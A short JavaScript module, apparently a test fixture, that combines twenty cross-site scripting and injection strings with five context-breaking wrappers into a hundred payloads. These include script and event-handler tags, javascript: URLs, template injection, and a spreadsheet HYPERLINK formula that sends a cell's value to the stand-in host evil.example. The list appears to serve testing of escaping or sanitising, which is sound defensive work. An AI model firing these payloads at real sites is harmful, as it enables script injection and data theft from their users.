// A hundred texts that would do something if they were not shown as text: each calls ran(), asks for a file elsewhere,
// or breaks out of where it stands.

const kBases = [
  '<script>ran()</script>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.ran()</script>">',
  '<body onload=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<video><source onerror=ran()></video>',
  '<math><mtext><style><img src=x onerror=ran()></style>',
  '<a href="javascript:ran()">x</a>',
  '<form action="javascript:ran()"><button>x</button></form>',
  '<object data="data:text/html,<script>ran()</script>">',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<base href=http://evil.example/>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
]
const kWays = [
  (text) => text,
  (text) => `"><b>${text}`,
  (text) => `'-${text}-'`,
  (text) => `</script></title></textarea>${text}`,
  (text) => `--> ]]> ${text} <!--`,
]

export const kPayloads = kWays.flatMap((way) => kBases.map(way))
